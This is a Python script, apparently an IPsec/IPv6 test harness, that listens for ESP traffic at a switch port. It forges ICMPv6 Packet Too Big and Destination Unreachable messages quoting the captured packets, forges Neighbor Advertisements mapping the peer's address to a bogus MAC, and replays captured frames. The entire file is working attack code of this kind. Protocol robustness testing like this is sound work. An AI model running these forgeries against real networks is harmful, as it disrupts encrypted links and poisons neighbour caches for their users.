#!/usr/bin/env python3
# attack_six.py - who is on the link: "attack_six.py errors|neighbours FROM TO US PEER SECONDS" at a switch sees ESP from US to PEER at port FROM, and forges and repeats at ports FROM and TO
import socket
import struct
import sys
import time

ESP, ICMP6, ETH = 50, 58, 14
IP6 = b"\x86\xdd"


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def icmp6(ether, src, dst, kind, code, body, hops=64):
    """A frame: an ICMPv6 message behind an Ethernet header of 12 bytes."""
    src, dst = (socket.inet_pton(socket.AF_INET6, a) for a in (src, dst))
    message = struct.pack("!BBH", kind, code, 0) + body
    message += b"\0" * (len(message) % 2)
    pseudo = src + dst + struct.pack("!II", len(message), ICMP6)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + \
        message[4:]
    return ether + IP6 + struct.pack("!IHBB", 6 << 28, len(message), ICMP6,
                                     hops) + src + dst + message


def port(name):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((name, 0))
    return s


def main():
    what = sys.argv[1]
    near, far = port(sys.argv[2]), port(sys.argv[3])
    us, peer = sys.argv[4:6]
    until = time.monotonic() + float(sys.argv[6])
    ends = socket.inet_pton(socket.AF_INET6, us) + \
        socket.inet_pton(socket.AF_INET6, peer)
    near.settimeout(0.2)
    counts = dict.fromkeys(("too_big", "unreachable", "replayed", "advert"), 0)
    router = "2001:db8:64::66"
    nobody = b"\x02\0\0\0\0\x66"
    seen = []
    print("ready", flush=True)
    while time.monotonic() < until:
        try:
            frame, info = near.recvfrom(65535)
        except TimeoutError:
            continue
        if info[2] == socket.PACKET_OUTGOING or frame[12:14] != IP6 or \
                frame[20] != ESP or frame[22:54] != ends:
            continue
        back = frame[6:12] + nobody
        packet = frame[ETH:]
        if what == "neighbours":
            # The peer's address is nobody's: the answer to no question.
            target = socket.inet_pton(socket.AF_INET6, peer)
            near.send(icmp6(back, peer, us, 136, 0,
                            struct.pack("!I", 0x20000000) + target +
                            b"\x02\x01" + nobody, 255))
            counts["advert"] += 1
            continue
        # Of an SA that is: what nobody beside the way could know; then of
        # one that is not, as who is not on the way has to guess.
        for quote in (packet, packet[:40] + b"\1\2\3\4" + packet[44:]):
            for mtu in (68, 1280):
                near.send(icmp6(back, router, us, 2, 0,
                                struct.pack("!I", mtu) + quote[:1000]))
                counts["too_big"] += 1
            for code in (0, 1, 3, 4):
                near.send(icmp6(back, router, us, 1, code,
                                b"\0" * 4 + quote[:1000]))
                counts["unreachable"] += 1
        # Packets of before, at the other end.
        seen = (seen + [frame])[-32:]
        for old in seen:
            if len(old) < 1500:
                far.send(old)
                counts["replayed"] += 1
    print(*(f"{k} {v}" for k, v in counts.items()))


if __name__ == "__main__":
    main()
